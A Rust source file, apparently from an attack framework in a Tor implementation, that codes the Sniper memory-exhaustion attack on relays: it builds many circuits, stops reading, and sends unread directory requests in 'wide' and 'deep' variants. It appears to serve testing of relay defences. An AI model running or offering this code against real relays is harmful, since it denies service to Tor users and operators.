//! The Sniper attack (Jansen, Tschorsch, Johnson, Scheuermann: "The Sniper Attack", NDSS 2014): the relay is made to hold
//! cells that nobody reads, until it runs out of memory or destroys the circuits of others.

use super::Attack;
use super::circuits::Circuit;
use super::field::{Field, LineId};
use onion::cell::relay::RelayCommand;

/// A request that is answered in one cell.
const SHORT: &[u8] = b"GET /tor/nothing HTTP/1.0\r\n\r\n";

/// A request for the longest answer.
const LONG: &[u8] = b"GET /tor/server/all HTTP/1.0\r\n\r\n";

/// A line that is filled with circuits, and then no longer read.
struct Gun {
    line: LineId,
    loaded: Vec<Circuit>,
    is_shooting: bool,
    /// The number of requests sent on the line.
    shots: u32,
}

/// Fills one line after the other, each from a new address: circuits first, then requests whose answers stay unread.
struct Battery {
    guns: Vec<Gun>,
    next_address: u32,
    circuits_per_line: u32,
    streams_per_circuit: u32,
    request: &'static [u8],
}

impl Battery {
    /// Lines that are being filled at a time.
    const LOADING: usize = 3;

    fn new(circuits_per_line: u32, streams_per_circuit: u32, request: &'static [u8]) -> Self {
        Self { guns: Vec::new(), next_address: 0, circuits_per_line, streams_per_circuit, request }
    }

    fn load(&mut self, field: &mut Field) {
        let loading = self.guns.iter().filter(|gun| !gun.is_shooting).count();
        if loading < Self::LOADING
            && let Some(line) = field.dial_narrow(self.next_address)
        {
            self.next_address += 1;
            self.guns.push(Gun { line, loaded: Vec::new(), is_shooting: false, shots: 0 });
        }
        for gun in self.guns.iter().filter(|gun| !gun.is_shooting) {
            while field.takes(gun.line) && field.begun(gun.line) < self.circuits_per_line {
                field.begin(gun.line, &[]);
            }
        }
    }

    fn shoot(&mut self, field: &mut Field) {
        for gun in &mut self.guns {
            let wanted = usize::try_from(self.circuits_per_line).unwrap_or(usize::MAX);
            if !gun.is_shooting && gun.loaded.len() == wanted {
                gun.is_shooting = true;
                field.deafen(gun.line);
            }
            if !gun.is_shooting {
                continue;
            }
            // Each circuit in turn, with one more stream.
            while gun.shots < self.circuits_per_line * self.streams_per_circuit
                && field.takes(gun.line)
            {
                let circuit = gun.shots % self.circuits_per_line;
                let stream = u16::try_from(gun.shots / self.circuits_per_line + 1).unwrap_or(1);
                let circuit = gun.loaded.get_mut(usize::try_from(circuit).unwrap_or_default());
                if let Some(circuit) = circuit {
                    circuit.send(field, RelayCommand::BEGIN_DIR, stream, &[]);
                    circuit.send(field, RelayCommand::DATA, stream, self.request);
                }
                gun.shots += 1;
            }
        }
    }
}

impl Attack for Battery {
    fn act(&mut self, field: &mut Field) {
        self.load(field);
        self.shoot(field);
    }

    fn handle_built(&mut self, _field: &mut Field, circuit: Circuit) {
        if let Some(gun) = self.guns.iter_mut().find(|gun| gun.line == circuit.line) {
            gun.loaded.push(circuit);
        }
    }

    fn handle_lost(&mut self, line: LineId) {
        self.guns.retain(|gun| gun.line != line);
    }
}

/// A growing number of circuits with few unread cells on each.
pub(super) fn wide() -> impl Attack {
    Battery::new(2_000, 1, SHORT)
}

/// Few circuits with many unread cells on each.
pub(super) fn deep() -> impl Attack {
    Battery::new(40, 20, LONG)
}
